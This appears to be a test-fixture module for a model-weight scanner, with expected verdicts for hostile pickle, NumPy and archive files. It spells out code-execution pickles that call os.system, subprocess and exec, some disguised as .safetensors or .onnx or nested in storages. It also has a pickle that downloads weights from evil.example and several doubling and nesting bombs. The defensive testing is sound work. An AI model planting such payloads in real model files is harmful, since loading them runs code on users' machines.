/** Pickles, and what pretends not to be one: files that run something when Python loads them, and some that never end. */
import { zipBytes } from '../weights/plain/zipBytes.ts';
import {
  call,
  global,
  join,
  pickle,
  stateDict,
  tensor,
  text,
  tuple,
} from '../weights/pytorch/pickleBytes.ts';
import { arrayOf, npy, torchZip, uint32, uint64, WEIGHT_KINDS } from './bytes.ts';
import { good, type Hostile } from './made.ts';

/** Magic number, protocol and system information, before the first pickle of the user. */
const LEGACY_HEADERS = good('pytorch/types-legacy.pt').indexOf('}', 40);

/** A pickle that has `torch.load` open another one. */
const loading = (content: Uint8Array): Buffer =>
  pickle(
    3,
    call(
      global('torch.storage', '_load_from_bytes'),
      join('B', uint32(content.length), Buffer.from(content)),
    ),
  );

export const PICKLE_FILES: Hostile[] = [
  [
    'a pickle that runs os.system, called .safetensors',
    'model.safetensors',
    () => Buffer.from('cos\nsystem\n(Vtouch /tmp/owned\ntR.', 'latin1'),
    'WEIGHTS_UNKNOWN',
    'model.safetensors is not a weight file that is read here',
    `It is text that begins with “cos”.${WEIGHT_KINDS}`,
  ],
  [
    'a pickle that runs a command, called .onnx',
    'model.onnx',
    () => pickle(4, text('posix'), text('system'), '\x93', tuple(text('id')), 'R'),
    'WEIGHTS_UNSAFE',
    'model.onnx is not safe to load',
    'Loading it would call posix.system("id"). Nothing of it was run.',
  ],
  [
    'a pickle that runs a command behind a good one, in the layout before PyTorch 1.6',
    'model.pth',
    () =>
      Buffer.concat([
        good('pytorch/types-legacy.pt').subarray(0, LEGACY_HEADERS),
        Buffer.from('cos\nsystem\n(Vtouch /tmp/owned\ntR.', 'latin1'),
      ]),
    'WEIGHTS_UNSAFE',
    'model.pth is not safe to load',
    'Loading it would call os.system("touch /tmp/owned"). Nothing of it was run.',
  ],
  [
    'a call hidden in a storage that torch.load would open',
    'model.bin',
    () =>
      torchZip(
        stateDict([
          'w',
          call(
            global('torch.storage', '_load_from_bytes'),
            join('C', String.fromCharCode(33), 'cos\nsystem\n(Vtouch /tmp/owned\ntR.'),
          ),
        ]),
      ),
    'WEIGHTS_UNSAFE',
    'model.bin is not safe to load',
    'Loading it would call os.system("touch /tmp/owned"). Nothing of it was run.',
  ],
  [
    'a call under deflate, in an archive called .ckpt',
    'model.ckpt',
    () =>
      zipBytes([
        { name: 'x/data.pkl', content: 'cos\nsystem\n(Vtouch /tmp/owned\ntR.', deflate: true },
        { name: 'x/version', content: '3' },
      ]),
    'WEIGHTS_UNSAFE',
    'model.ckpt is not safe to load',
    'Loading it would call os.system("touch /tmp/owned"). Nothing of it was run.',
  ],
  [
    'a call whose name is put together from the memo, with a frame that lies',
    'model.pkl',
    () =>
      pickle(
        4,
        '\x95',
        uint64(2n ** 63n),
        text('sys'),
        '\x94',
        text('builtins'),
        '\x94',
        'h\x01',
        text('exec'),
        '\x93',
        tuple(text('1')),
        'R',
      ),
    'WEIGHTS_UNSAFE',
    'model.pkl is not safe to load',
    'Loading it would call builtins.exec("1"). Nothing of it was run.',
  ],
  [
    'a call in an array of objects, NumPy',
    'weights.npy',
    () => npy(arrayOf('1,', '|O'), Buffer.from('cos\nsystem\n(Vtouch /tmp/owned\ntR.', 'latin1')),
    'WEIGHTS_UNSUPPORTED',
    'weights.npy holds something that is not read',
    '“weights” holds Python objects as a pickle; loading one can run code, so it is not loaded.',
  ],
  [
    'a call in an array of objects, in an archive',
    'weights.npz',
    () =>
      zipBytes([
        {
          name: 'w.npy',
          content: npy(arrayOf('1,', '|O'), Buffer.from('cos\nsystem\n(Vtouch /tmp/owned\ntR.', 'latin1')),
        },
      ]),
    'WEIGHTS_UNSUPPORTED',
    'weights.npz holds something that is not read',
    '“w” holds Python objects as a pickle; loading one can run code, so it is not loaded.',
  ],
  [
    'a call among the tensors of a shard',
    'pytorch_model.bin.index.json',
    () => ({
      'pytorch_model.bin.index.json': '{"weight_map": {"w": "a.bin"}}',
      'a.bin': torchZip(stateDict(['w', call(global('subprocess', 'check_output'), text('id'))])),
    }),
    'WEIGHTS_UNSAFE',
    'a.bin is not safe to load',
    'Loading it would call subprocess.check_output("id"). Nothing of it was run.',
  ],
  [
    'Python code in the header of an array',
    'weights.npy',
    () => npy("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }"),
    'WEIGHTS_DAMAGED',
    'weights.npy is damaged',
    "The header of “weights” is “{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), ”. Expected descr, fortran_order and shape.",
  ],
  [
    'a list that doubles 60 times',
    'model.pt',
    () =>
      torchZip(
        pickle(
          2,
          ']q\x00',
          ...Array.from(
            { length: 60 },
            (_, at) =>
              `](h${String.fromCharCode(at)}h${String.fromCharCode(at)}eq${String.fromCharCode(at + 1)}`,
          ),
        ),
      ),
    'WEIGHTS_LIMIT',
    'model.pt announces more than a model has',
    'Its values unfold to over 500,000. A checkpoint has fewer.',
  ],
  [
    'dictionaries of tensors that double 40 times',
    'model.pt',
    () =>
      torchZip(
        pickle(
          2,
          join('}', text('w'), tensor(), 's', 'q\x00'),
          ...Array.from({ length: 40 }, (_, at) =>
            join(
              '}(',
              text('a'),
              `h${String.fromCharCode(at)}`,
              text('b'),
              `h${String.fromCharCode(at)}`,
              'u',
              `q${String.fromCharCode(at + 1)}`,
            ),
          ),
        ),
      ),
    'WEIGHTS_LIMIT',
    'model.pt announces more than a model has',
    'Its values unfold to over 500,000. A checkpoint has fewer.',
  ],
  [
    'a dictionary that holds itself',
    'model.pt',
    () => torchZip(pickle(2, '}q\x00', text('a'), 'h\x00', 's')),
    'WEIGHTS_UNSUPPORTED',
    'model.pt holds something that is not read',
    'It holds no tensors that could be read.',
  ],
  [
    'a million lists in one another',
    'model.pt',
    () => torchZip(pickle(2, ']'.repeat(1e6), 'a'.repeat(999_999))),
    'WEIGHTS_LIMIT',
    'model.pt announces more than a model has',
    'Its values nest over 200 levels. A checkpoint has fewer.',
  ],
  [
    'a memo of number 2^32 − 1 that was never set',
    'model.pt',
    () => torchZip(pickle(2, 'j\xff\xff\xff\xff')),
    'WEIGHTS_DAMAGED',
    'model.pt is damaged',
    'At byte 7 of its pickle the value 4294967295 is asked for. Expected one that was stored before.',
  ],
  [
    'a text of 2^31 letters in a pickle of ten',
    'model.pt',
    () => torchZip(pickle(2, 'X', uint32(2 ** 31), 'a')),
    'WEIGHTS_TRUNCATED',
    'model.pt ends too early',
    'Its pickle takes 2,147,483,648 bytes from byte 7 on, and has 2.',
  ],
  [
    'a number of 2^31 digits',
    'model.pt',
    () => torchZip(pickle(2, '\x8b', uint32(2 ** 31 - 1), '1')),
    'WEIGHTS_LIMIT',
    'model.pt announces more than a model has',
    'Its pickle has a whole number of 2,147,483,647 bytes. Expected at most 2,000.',
  ],
  [
    'a hidden archive that torch.load would open in turn',
    'model.pt',
    () =>
      torchZip(
        stateDict([
          'w',
          call(global('torch.storage', '_load_from_bytes'), join('C', String.fromCharCode(4), 'PK')),
        ]),
      ),
    'WEIGHTS_UNSAFE',
    'model.pt is not safe to load',
    'Loading it would open an archive that is hidden in its pickle. Nothing of it was run.',
  ],
  [
    'a call in a storage in a storage',
    'model.pt',
    () => torchZip(loading(loading(pickle(2, call(global('os', 'system'), text('id')))))),
    'WEIGHTS_UNSAFE',
    'model.pt is not safe to load',
    'Loading it would call os.system("id"). Nothing of it was run.',
  ],
  [
    'storages in storages, 20 deep',
    'model.pt',
    () => torchZip(Array.from({ length: 20 }, () => 0).reduce((inner) => loading(inner), pickle(2, 'N'))),
    'WEIGHTS_UNSAFE',
    'model.pt is not safe to load',
    'It hides pickles in pickles, 8 deep and more. Nothing of it was run.',
  ],
  [
    'a URL of the network in a pickle',
    'model.pt',
    () =>
      torchZip(
        pickle(2, call(global('torch.hub', 'load_state_dict_from_url'), text('http://evil.example/w.pt'))),
      ),
    'WEIGHTS_UNSAFE',
    'model.pt is not safe to load',
    'Loading it would call torch.hub.load_state_dict_from_url("http://evil.example/w.pt"). Nothing of it was run.',
  ],
];
